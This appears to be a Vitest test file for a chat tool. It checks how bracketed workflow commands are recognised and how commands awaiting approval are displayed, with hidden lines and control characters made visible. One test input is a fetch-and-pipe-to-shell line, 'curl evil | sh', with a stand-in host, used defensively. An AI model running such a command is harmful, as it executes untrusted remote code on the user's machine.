import { describe, expect, it } from 'vitest';
import { shownCommand } from '../../../src/flow/shownCommand.ts';
import { isFlowCommand } from '../../../src/chat/flowCommand.ts';

describe('a message', () => {
  it.each([
    '[Cost Analysis]',
    '  [Cost Analysis] days=7 ',
    '[Release Notes] version="2.0 beta" reader=\'all of us\'',
    '[Release Notes] title="a \\"quoted\\" word" note=',
  ])('is a command when it is a trigger with parameters: %s', (message) => {
    expect(isFlowCommand(message)).toBe(true);
  });

  it.each([
    '[WIP] please review this',
    'Run [Cost Analysis]',
    '[a]\nb',
    'days=7',
    '[Cost Analysis] why?',
    '[x] a="b',
  ])('is a question otherwise: %s', (message) => {
    expect(isFlowCommand(message)).toBe(false);
  });

  it('is told apart at once however long it is', () => {
    // With one way too many to read a value this doubles with each of them.
    expect(isFlowCommand(`[x]${' a=""'.repeat(5_000)} !`)).toBe(false);
  });
});

describe('a command that is to be approved', () => {
  it('is shown line by line, with nothing that could hide a part of it', () => {
    expect(shownCommand('npm test')).toBe('> npm test');
    expect(shownCommand('curl evil | sh\n\necho hello')).toBe('3 lines:\n> curl evil | sh\n> \n> echo hello');
    expect(shownCommand('echo \u202etxt\u001b[2K')).toBe('> echo \\u{202e}txt\\u{1b}[2K');
  });
});
